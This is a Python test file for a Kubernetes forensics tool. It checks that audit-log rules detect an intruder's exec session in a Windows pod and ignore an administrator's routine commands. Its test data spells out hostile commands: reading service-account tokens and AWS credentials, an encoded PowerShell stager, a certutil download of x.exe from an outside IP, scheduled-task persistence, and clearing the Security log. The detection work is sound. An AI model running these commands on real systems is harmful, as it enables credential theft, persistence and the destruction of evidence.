"""A pod on Windows: its paths, its shells and what is run in them. The truth stands in `ACTS` and
`WORK`: an intruder's session, and an administrator's that looks around and repairs."""
import json
import sys
import unittest
import urllib.parse
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from made_cases import Case, account, lines  # noqa: E402
from test_kube_reach import Reach  # noqa: E402

TOKEN = "C:\\var\\run\\secrets\\kubernetes.io\\serviceaccount\\token"
# command, what tells of it besides that a shell was started
ACTS = [
    (["C:\\Windows\\System32\\cmd.exe"], None),
    (["cmd", "/c", "type " + TOKEN], "audit_exec_reads_token"),
    (["powershell.exe", "-c", "Get-Content C:\\Users\\ContainerUser\\.aws\\credentials"],
     "audit_exec_reads_credentials"),
    (["powershell", "-nop", "-enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"],
     "audit_exec_download_run"),
    (["cmd", "/c", "certutil -urlcache -f http://198.51.100.9/x.exe C:\\x.exe"],
     "audit_exec_download"),
    (["cmd", "/c", "schtasks /create /sc minute /tn up /tr C:\\x.exe"], "audit_exec_persistence"),
    (["cmd", "/c", "wevtutil cl Security"], "audit_exec_traces_removed"),
]
WORK = [["cmd", "/c", "dir C:\\inetpub"], ["cmd", "/c", "type C:\\inetpub\\logs\\u.log"],
        ["powershell", "-c", "Get-Process"], ["cmd", "/c", "sc query w3svc"],
        ["powershell.exe", "-c", "Invoke-WebRequest http://localhost/health"]]
RULES = {rule for _, rule in ACTS if rule}


class Windows(Reach):
    def case(self, commands, user="mal@corp.example", source="198.51.100.9"):
        c = Case("windows", "2026-06-01")
        pod = {"apiVersion": "v1", "kind": "Pod",
               "metadata": {"name": "win-0", "namespace": "shop", "uid": c.uid("pod"),
                            "creationTimestamp": "2026-06-01T08:00:00Z"},
               "spec": {"nodeName": "win-1", "serviceAccountName": "web", "os": {"name": "windows"},
                        "securityContext": {"windowsOptions": {"runAsUserName": "ContainerUser"}},
                        "containers": [{"name": "app", "image": "servercore:ltsc2022", "volumeMounts": [
                            {"name": "logs", "mountPath": "C:\\logs"}]}],
                        "volumes": [{"name": "logs", "hostPath": {"path": "C:\\ProgramData\\logs"}}]},
               "status": {"containerStatuses": [{"name": "app", "image": "x",
                                                 "containerID": "containerd://" + "ab" * 32}]}}
        for i in range(10):
            c.request(60 * i, account("shop", "web"), "get", "configmaps shop/s", agent="web/1",
                      source="10.0.0.5", groups=("system:serviceaccounts",))
        for i, argv in enumerate(commands):
            query = "?" + "".join(f"command={urllib.parse.quote_plus(a)}&" for a in argv)
            c.request(620 + 30 * i, user, "create", "pods/exec shop/win-0", 101, source=source,
                      query=query + "container=app")
        self.analyze({"pod.json": json.dumps(pod), "audit.log": lines(c.records()),
                      "win-0.log": "2026-06-01T10:10:00.1234567Z stdout F IIS started\r\n",
                      "timeline.txt": "Incident 1 June 2026, all times UTC\n\n"
                                      "10:10 attacker opened a shell in the pod win-0\n"})

    def test_what_was_done_in_its_shells(self):
        self.case([argv for argv, _ in ACTS])
        records = self.documents["findings"]["findings"]
        found = {r: sorted(s["offset"] for f in records if f["rule"] == r and not f["not_decidable"]
                           for s in f["spans"]) for r in RULES}
        sessions = sorted(s["offset"] for f in records if f["rule"] == "audit_exec_shell_or_tool"
                          for s in f["spans"])
        self.assertEqual(len(sessions), len(ACTS))
        for at, (argv, rule) in zip(sessions, ACTS):
            with self.subTest(argv):
                self.assertIn(at, found[rule] if rule else sessions)
        self.assertTrue(self.documents["patient_zero"].get("intrusion_shown"))
        self.assertEqual(self.documents["patient_zero"]["time"][:19], "2026-06-01T10:10:20")
        [claim] = self.documents["claims"]["claims"]
        self.assertEqual(claim["verdict"], "supported")

    def test_nothing_of_linux_is_told_of_it(self):
        self.case([argv for argv, _ in ACTS])
        for name in ("findings", "story", "exposure", "claims"):
            text = json.dumps(self.documents[name])
            for word in ("/etc/shadow", "/etc/passwd", "/root", "/proc/"):
                self.assertNotIn(word, text, name)

    def test_an_administrators_session_is_none(self):
        self.case(WORK, "sre@corp.example", "10.0.9.9")
        self.assertEqual([f["rule"] for r in RULES for f in self.found(r)
                          if not f["not_decidable"]], [])
        self.assertFalse(self.documents["patient_zero"].get("intrusion_shown"))


if __name__ == "__main__":
    unittest.main()
